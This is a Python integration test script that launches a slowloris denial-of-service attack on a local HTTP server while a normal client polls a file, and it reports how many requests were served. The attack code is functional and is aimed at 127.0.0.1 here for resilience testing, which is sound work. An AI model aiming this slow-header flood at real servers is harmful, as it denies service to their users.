#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# tests/integration/serve_slow.py -- a slowloris attack on an HTTP server of
# 127.0.0.1 while an ordinary client keeps asking for a file.
#
# usage: serve_slow.py PORT CONNS SECONDS ATTACKER_ADDR CLIENT_ADDR RECONNECT
# CONNS connections from ATTACKER_ADDR each send one byte of a request
# header every 0.3 s and, with RECONNECT 1, reconnect at once when the
# server closes them;
# meanwhile a client from CLIENT_ADDR asks for /timestamp.json (1 s timeout
# per try) every 0.2 s for SECONDS. Prints
#   served=N first=T attackers_closed=K
# (N answers with status 200, T seconds to the first one or -1, K attacker
# connections the server closed).
import socket
import sys
import time

port, conns, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
attacker, client, reconnect = sys.argv[4], sys.argv[5], sys.argv[6] == "1"
HDR = b"GET /timestamp.json HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10000

def connect(src, timeout):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((src, 0))
    s.connect(("127.0.0.1", port))
    return s

slow = []
for _ in range(conns):
    try:
        slow.append([connect(attacker, 2), 0])
    except OSError:
        pass
closed = 0
served = 0
first = -1.0
t0 = time.time()
next_drip = t0
while time.time() - t0 < secs:
    now = time.time()
    if now >= next_drip:
        next_drip = now + 0.3
        for i, (s, pos) in enumerate(slow):
            if s is None:
                continue
            try:
                s.send(HDR[pos:pos + 1])
                slow[i][1] = pos + 1
            except OSError:
                closed += 1
                s.close()
                slow[i] = [None, 0]
                if reconnect:
                    try:
                        slow[i] = [connect(attacker, 2), 0]
                    except OSError:
                        pass
    try:
        c = connect(client, 1)
        c.sendall(b"GET /timestamp.json HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        if c.recv(64).startswith(b"HTTP/1.1 200"):
            served += 1
            if first < 0:
                first = time.time() - t0
        c.close()
    except OSError:
        pass
    time.sleep(0.2)
for s, _ in slow:
    if s is not None:
        s.close()
print("served=%d first=%.1f attackers_closed=%d" % (served, first, closed))
